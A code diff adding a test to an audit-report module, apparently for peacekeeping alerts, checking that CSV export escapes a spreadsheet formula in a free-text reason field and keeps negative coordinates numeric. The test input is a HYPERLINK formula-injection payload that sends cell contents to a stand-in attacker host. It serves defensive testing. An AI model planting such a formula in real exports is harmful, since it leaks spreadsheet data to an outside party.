@@ -11,6 +11,7 @@ from sqlalchemy.orm import Session, sessionmaker
 
 from alerts.audit.domain.hxl import is_hashtag
 from alerts.audit.domain.periods import Period, half_year
+from alerts.audit.reports.latency import build_latency
 from alerts.audit.reports.model import NoncomplianceReport, ReportRequest
 from alerts.audit.reports.noncompliance import build_noncompliance
 from alerts.audit.reports.render import render
@@ -111,3 +112,25 @@ def test_period_and_mission_filters(factory: sessionmaker[Session]) -> None:
     assert build(factory, Period(date(2026, 3, 3), date(2026, 3, 31))).nil
     other = build(factory, march_2, mission="UNMISS")
     assert other.nil and [m.mission for m in other.missions] == ["UNMISS"]
+
+
+def test_a_units_words_never_become_a_formula_and_numbers_stay_numbers(
+    factory: sessionmaker[Session],
+) -> None:
+    s = Scenario.create(factory)
+    goma = s.incident(0, ref="GGGGG", lat=-1.6792, lon=29.2228)  # south of the equator
+    tasking = s.task(1, goma, "QRF-BENI-1")
+    s.reply(2, goma, tasking, "declined")
+    words = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+    s.noncompliance(
+        2, goma, tasking, "QRF-BENI-1", category="refusal", trigger="declined",
+        reason_code="other", reason_text=words,
+    )  # fmt: skip
+    full = build(factory, half_year("2026H1"), detail="full")
+    register = list(csv.DictReader(io.StringIO(render(full, "csv").content)))
+    assert register[1]["reason_text"] == "'" + words  # row 0 is the HXL hashtags
+    period = Period(date(2026, 3, 2), date(2026, 3, 2))
+    with factory() as session:
+        latency = build_latency(session, ReportRequest(period=period, detail="full"), at(500))
+    incidents = list(csv.DictReader(io.StringIO(render(latency, "csv").content)))
+    assert (incidents[1]["lat"], incidents[1]["lon"]) == ("-1.6792", "29.2228")
